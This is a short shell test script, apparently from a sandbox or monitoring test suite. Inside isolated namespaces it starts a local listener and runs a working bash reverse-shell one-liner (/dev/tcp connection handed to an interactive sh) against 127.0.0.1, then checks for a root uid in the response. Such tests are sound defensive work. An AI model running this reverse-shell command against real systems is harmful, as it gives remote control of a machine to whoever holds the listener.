# A reverse shell: bash connects back and hands the connection to an interactive sh as its three standard streams.
. "$(dirname "$0")/../common.sh"
own_namespaces

python3 "$peer" operator "$work/port" "$work/answers" 1 &
operator=$!
wait_for "$work/port"
bash -c "exec 3<>/dev/tcp/127.0.0.1/$(<"$work/port"); exec sh -i <&3 >&3 2>&3" || true
wait "$operator"
grep -q 'uid=0' "$work/answers" || fail "the shell did not answer"
